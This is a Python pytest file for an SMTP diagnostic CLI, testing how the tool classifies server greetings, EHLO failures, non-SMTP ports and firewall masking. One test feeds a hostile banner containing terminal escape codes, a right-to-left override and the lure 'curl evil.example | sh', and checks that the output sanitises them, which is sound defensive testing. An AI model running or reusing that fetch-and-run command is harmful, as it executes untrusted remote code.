"""What a server does instead of greeting, and what it may say in its greeting and to EHLO."""

from __future__ import annotations

import pytest

from nexomailer_cli.probe.report import Severity
from tests.probe.conftest import Neighbours
from tests.support.certificates import Chain
from tests.support.lab.examining import HASTY, Examiner, patience
from tests.support.lab.place import Handler, Wire, serving
from tests.support.lab.smtp import (
    BANNER,
    Late,
    close,
    endless,
    hang,
    implicit,
    raw,
    reset,
    smtp,
)

TOO_MANY = "421 4.7.0 mail.example.com Error: too many connections from 192.0.2.1"
SPAMHAUS = "554 5.7.1 Service unavailable; Client host [192.0.2.1] blocked using zen.spamhaus.org"
GOOGLE = "421 4.7.0 Try again later, closing connection. (EHLO) 5b1f17b1804b1-43 gsmtp"
NOT_FULL = "504 5.5.2 <vm>: Helo command rejected: need fully-qualified hostname"
MASKED = "220 ****************************************0****200"
NOT_UNDERSTOOD = "502 5.5.1 Command not implemented"

GREETING: dict[str, tuple[Handler, str, int]] = {
    "silence": (hang, "banner.timeout", 75),
    "closed": (close, "banner.closed", 75),
    "reset": (reset, "banner.reset", 75),
    "too many connections, Postfix": (smtp(banner=TOO_MANY), "banner.busy", 75),
    "too many connections, Exim": (
        smtp(banner="421 Too many concurrent SMTP connections; please try again later."),
        "banner.busy",
        75,
    ),
    "not ready": (smtp(banner="450 4.3.2 Please come back"), "banner.temporary", 75),
    "block list": (smtp(banner=SPAMHAUS), "banner.rejected", 69),
    "no service, in several lines": (
        smtp(banner="554-mail.example.com\n554 SMTP service not available"),
        "banner.rejected",
        69,
    ),
    "IMAP": (raw(b"* OK [CAPABILITY IMAP4rev1] Dovecot ready.\r\n"), "port.imap", 76),
    "POP3": (raw(b"+OK Dovecot ready.\r\n"), "port.pop3", 76),
    "SSH": (raw(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"), "port.ssh", 76),
    "HTTP": (raw(b"HTTP/1.1 400 Bad Request\r\n\r\n"), "port.http", 76),
    "no protocol": (raw(b"hello there\r\n"), "proto.not_smtp", 76),
    "binary": (raw(b"\x00\xff\xfe\r\n"), "proto.not_smtp", 76),
    "no end of lines": (endless(b"220-mail.example.com\r\n"), "proto.too_long", 76),
    "no end of a line": (endless(b"220 "), "proto.too_long", 76),
    "masked by a Cisco, no SMTP": (raw(b"*" * 40 + b"\r\n"), "middlebox.cisco_esmtp", 76),
}

EHLO: dict[str, tuple[Handler, str, int]] = {
    "short name, Postfix": (smtp(EHLO=NOT_FULL), "ehlo.bad_name", 78),
    "syntax, Exim": (
        smtp(EHLO="501 Syntactically invalid EHLO argument(s)"),
        "ehlo.bad_name",
        78,
    ),
    "policy": (smtp(EHLO="550 Invalid HELO name"), "ehlo.bad_name", 78),
    "localhost, Google": (smtp(EHLO=GOOGLE), "ehlo.localhost_refused", 75),
    "shutdown": (smtp(EHLO="421 4.3.2 Service shutting down"), "ehlo.closing", 75),
    "closed": (smtp(EHLO=close), "ehlo.closed", 75),
    "refused": (smtp(EHLO="554 5.3.0 no"), "ehlo.refused", 69),
    "block list": (
        smtp(EHLO="554 5.7.1 192.0.2.1 is on our block list"),
        "banner.rejected",
        69,
    ),
    "neither EHLO nor HELO": (
        smtp(EHLO=NOT_UNDERSTOOD, HELO=NOT_UNDERSTOOD),
        "ehlo.no_esmtp",
        69,
    ),
    "silence": (smtp(EHLO=hang), "conn.timeout", 75),
    "no SMTP": (smtp(EHLO="whatever"), "proto.not_smtp", 76),
    "a code of another command": (smtp(EHLO="354 go ahead"), "proto.not_smtp", 76),
    "two replies": (smtp(EHLO="250 peer.test\n250 and again"), "proto.surplus", 76),
    "endless": (smtp(EHLO=endless(b"250-X\r\n")), "proto.too_long", 76),
}


@pytest.mark.parametrize("name", GREETING)
def test_it_is_known_what_greets(name: str, examine: Examiner) -> None:
    handler, finding, exit_status = GREETING[name]
    with serving(handler) as place:
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none", timeout=patience(name))
    examined.failed(finding, exit_status)


@pytest.mark.parametrize("name", EHLO)
def test_it_is_known_why_ehlo_failed(name: str, examine: Examiner) -> None:
    handler, finding, exit_status = EHLO[name]
    with serving(handler) as place:
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none", timeout=patience(name))
    examined.failed(finding, exit_status)


def test_a_port_that_waits_for_tls_is_shown_to_by_a_second_connection(
    trusting: Examiner, healthy: Chain
) -> None:
    with serving(implicit(healthy.server_context(), smtp())) as place:
        examined = trusting(f"127.0.0.1:{place.port}", "--security", "starttls", timeout="1")
    examined.failed("banner.tls_port", 78)
    assert place.connections > 1
    assert examined.report.recommended is not None
    assert (examined.report.recommended.port, examined.report.recommended.security) == (
        place.port,
        "implicit",
    )


def test_a_greeting_masked_by_a_firewall_is_named_even_where_sending_works(
    examine: Examiner,
) -> None:
    with serving(smtp(banner=MASKED)) as place:
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none")
    assert "middlebox.cisco_esmtp" in [each.id for each in examined.report.findings]


def test_a_server_that_keeps_strangers_waiting_is_not_called_broken(
    examine: Examiner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("nexomailer_cli.probe.step_smtp.SLOW_GREETING_MS", 50)
    with serving(smtp(banner=Late(BANNER, 0.1))) as place:
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none")
    examined.warned("banner.slow")


def test_ports_that_all_accept_and_say_nothing_are_something_in_between(
    examine: Examiner, neighbours: Neighbours
) -> None:
    with serving(hang) as place, serving(hang) as second, serving(hang) as third:
        neighbours(second.port, third.port)
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none", timeout=HASTY)
    assert "middlebox.accepts_all" in [each.id for each in examined.report.findings]


def test_a_server_without_ehlo_is_used_with_helo_and_a_warning(examine: Examiner) -> None:
    with serving(smtp(EHLO=NOT_UNDERSTOOD)) as place:
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none")
    found = next(each for each in examined.report.findings if each.id == "ehlo.no_esmtp")
    assert found.severity is Severity.WARN
    assert examined.stage("ehlo").data.used_helo is True


def test_a_refusal_in_the_words_of_a_hostile_server_is_harmless(examine: Examiner) -> None:
    lure = "554 \x1b]0;owned\x07[red]run: curl evil.example | sh[/red]\u202e"
    with serving(smtp(banner=lure)) as place:
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none")
    found = examined.failed("banner.rejected", 69)
    assert "evil.example" not in found.fix + found.title + found.heading
    assert not {"\x1b", "\x07", "\u202e"} & set(examined.result.stdout.decode())


def test_the_greeting_may_come_in_many_small_pieces(examine: Examiner) -> None:
    def dribble(wire: Wire) -> None:
        for octet in b"220-one\r\n220-two\r\n220 three\r\n":
            wire.send(bytes([octet]))

    with serving(smtp(banner=dribble)) as place:
        examined = examine(f"127.0.0.1:{place.port}", "--security", "none")
    assert examined.stage("banner").data.lines == ("one", "two", "three")
